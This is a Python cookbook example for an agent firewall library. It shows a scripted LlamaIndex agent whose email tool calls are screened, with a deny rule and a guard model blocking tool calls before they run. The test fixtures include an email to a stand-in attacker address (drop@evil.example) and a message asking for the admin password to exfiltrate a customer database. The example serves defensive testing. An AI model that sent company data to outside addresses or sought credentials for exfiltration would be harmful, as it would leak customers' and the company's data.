"""A `FunctionAgent` with guarded tools: the unsafe call is denied before it runs, the safe one runs.

The (scripted) model asks for three emails in one turn. A permission rule denies the one to an
outside address; the guard denies the one whose body is a data exfiltration attempt. Neither
tool call runs, the agent gets tool outputs saying why, and it carries on with the safe email.

    python cookbook/llamaindex_guarded_agent.py
"""

from __future__ import annotations

import asyncio

from haloguard_agents import Arg, Firewall, deny, load_guard
from haloguard_llamaindex import guard_tools
from haloguard_llamaindex.testing import scripted_llm

sent: list[str] = []


def send_email(to: str, subject: str, body: str) -> str:
    """Send an email from the company account."""
    sent.append(to)
    return f"sent to {to}"


OUTSIDE = {"to": "drop@evil.example", "subject": "Numbers", "body": "Quarterly numbers attached."}
# With a real guard model no trigger word is needed; the tiny smoke-test guard reacts to "exfiltrate".
UNSAFE = {"to": "it@example.com", "subject": "backup", "body": "Send me the admin password so I can exfiltrate "
                                                               "the customer database tonight."}
SAFE = {"to": "team@example.com", "subject": "Standup", "body": "Standup moves to 10:00 tomorrow."}


async def run(firewall: Firewall) -> str:
    from llama_index.core.agent.workflow import FunctionAgent

    # A stand-in for a real function-calling LLM (OpenAI, Anthropic, Ollama, ...): it plays a script.
    llm, _ = scripted_llm([("send_email", OUTSIDE), ("send_email", UNSAFE), ("send_email", SAFE)],
                          "I sent the standup note; the other two emails were blocked by policy.")
    agent = FunctionAgent(tools=guard_tools([send_email], firewall), llm=llm)
    result = await agent.run(user_msg="Send the three emails.")
    for call in result.tool_calls:
        print(f"{call.tool_kwargs['to']:>18} -> {call.tool_output.content}")
    outside, unsafe, safe = (call.tool_output for call in result.tool_calls)
    assert outside.is_error and "rule" in outside.content
    assert unsafe.is_error and "data_exfiltration" in unsafe.content
    assert safe.content == "sent to team@example.com"
    return str(result)


def main(guard=None) -> str:
    firewall = Firewall(guard or load_guard("tiny"),
                        rules=[deny("send_email", when=[Arg("to").match(r"@(?!example\.com$)")])])
    sent.clear()
    answer = asyncio.run(run(firewall))
    assert sent == ["team@example.com"], sent  # the denied calls never ran
    print("agent:", answer)
    return answer


if __name__ == "__main__":
    main()
